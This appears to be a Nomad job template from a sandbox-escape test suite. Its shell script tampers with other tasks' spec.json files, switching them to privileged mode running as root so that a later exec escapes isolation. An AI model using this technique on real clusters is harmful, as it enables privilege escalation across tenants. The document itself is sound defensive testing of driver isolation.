# Escape suite, attack 6: a service task rewrites every spec.json under
# root_dir/tasks ($1) it can reach to say privileged, as root, then waits for
# the test to run "nomad alloc exec" in it. It prints its own capabilities
# first, for comparison.
job "{{.JobID}}" {
  type = "service"

  group "g" {
    restart {
      attempts = 0
      mode     = "fail"
    }

    reschedule {
      attempts  = 0
      unlimited = false
    }

    task "t" {
      driver       = "{{.Vars.Driver}}"
      kill_signal  = "SIGTERM"
      kill_timeout = "3s"
{{- if .Vars.User}}
      user         = "{{.Vars.User}}"
{{- end}}

      config {
        command = "/bin/sh"
        args = concat(["-c", <<-EOT
          try() {
            n=$1; shift
            if out=$("$@" 2>&1); then echo "RESULT $n OK $(printf '%s' "$out" | tr '\n' ' ')"
            else echo "RESULT $n FAILED rc=$? $(printf '%s' "$out" | tr '\n' ' ')"; return 1; fi
          }
          echo "uid=$(id -u) $(grep CapEff /proc/self/status)"
          echo "SELF CapEff=$(awk '/^CapEff/ {print $2}' /proc/self/status) uid=$(id -u)"
          rewrite() {
            new=$(sed -e 's/"privileged":false/"privileged":true/' -e 's/"user":"[^"]*"/"user":"root"/' "$1") || return 1
            printf '%s' "$new" > "$1" || return 1
            grep -o '"privileged":[a-z]*' "$1"
          }
          found=0
          for f in $(find "$1/tasks" -name spec.json 2>/dev/null); do
            found=1
            try "rewrite:$f" rewrite "$f"
          done
          [ "$found" = 1 ] || echo "RESULT find-spec FAILED no spec.json under $1/tasks: $(ls "$1/tasks" 2>&1 | head -1)"
          echo DONE
          exec sleep 3600
        EOT
        , "escape"], {{.Vars.Args}})
      }

      resources {
        cpu    = 20
        memory = 64
      }
    }
  }
}
